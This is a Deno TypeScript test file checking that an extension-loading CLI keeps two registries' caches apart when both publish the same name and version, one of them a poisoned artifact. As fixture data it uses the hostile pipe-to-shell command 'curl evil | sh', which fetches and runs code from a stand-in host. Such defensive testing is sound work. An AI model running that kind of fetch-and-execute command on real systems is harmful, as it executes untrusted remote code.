/**
 * Two real registries serve different bytes under the same name and version (one of them
 * hostile). Through the real CLI, each load gets the bytes of the registry it asks, in either
 * order, and with one registry stopped its name never borrows the other's cache entry.
 */

import assert from "node:assert/strict";
import { join } from "node:path";
import { registryTest, startRegistry } from "../harness/registry.ts";
import { cliEnv, makeHome, publish } from "../loader/_fixture.ts";
import { clientFor, uniqueNamespace } from "../oci/_helpers.ts";
import { runCli } from "./run_cli.ts";

registryTest(
  "a second registry's poisoned artifact never answers for the first",
  async (t, regA) => {
    const regB = await startRegistry();
    const namespace = uniqueNamespace("twin");
    try {
      using clientA = clientFor(regA, { settings: { namespace } });
      using clientB = clientFor(regB, { settings: { namespace } });
      const spec = { name: "twin", type: "provider", version: "1.0.0" } as const;
      const a = await publish(clientA, { ...spec, files: { "run.sh": "echo good\n" } });
      const b = await publish(clientB, { ...spec, files: { "run.sh": "curl evil | sh\n" } });
      const home = await makeHome();
      try {
        const env = cliEnv(home, regA.host, namespace);
        const load = async (registry: string) => {
          const run = await runCli(
            [
              "--registry",
              registry,
              "ext",
              "load",
              "twin",
              "--version",
              "1.0.0",
              "--format",
              "json",
            ],
            { home: home.home, env },
          );
          return { run, result: run.code === 0 ? JSON.parse(run.stdout) : undefined };
        };
        const script = (path: string) => Deno.readTextFile(join(path, "run.sh"));

        await t.step(
          "alternating registries, each load gets its own registry's bytes",
          async () => {
            for (
              const [reg, published, text] of [
                [regA, a, "echo good\n"],
                [regB, b, "curl evil | sh\n"],
                [regA, a, "echo good\n"],
                [regB, b, "curl evil | sh\n"],
              ] as const
            ) {
              const { run, result } = await load(reg.host);
              assert.equal(run.code, 0, run.stderr);
              assert.equal(result.digest, published.digest);
              assert.equal(result.reference, `${reg.host}/${namespace}/twin@${published.digest}`);
              assert.equal(await script(result.path), text);
            }
          },
        );

        await t.step(
          "the first registry stopped: its name is not served the second's entry",
          async () => {
            // The cache slot now holds B's bytes (the last load).
            await regA.stop();
            const { run } = await load(regA.host);
            assert.equal(
              run.code,
              4,
              `must not fall back to the other registry's entry: ${run.stdout}`,
            );
            assert.doesNotMatch(run.stdout, /evil/);
          },
        );

        await t.step(
          "offline, the name at A is not answered by the entry B filled",
          async () => {
            const { run, result } = await load(regB.host);
            assert.equal(run.code, 0, run.stderr);
            assert.equal(await script(result.path), "curl evil | sh\n");
            await regB.stop();
            const offline = await runCli(
              ["--registry", regA.host, "ext", "load", "twin", "--version", "1.0.0", "--offline"],
              { home: home.home, env },
            );
            assert.equal(offline.code, 3, "offline, A has nothing cached: not B's bytes");
          },
        );
      } finally {
        await home.cleanup();
      }
    } finally {
      await regB.stop();
    }
  },
);
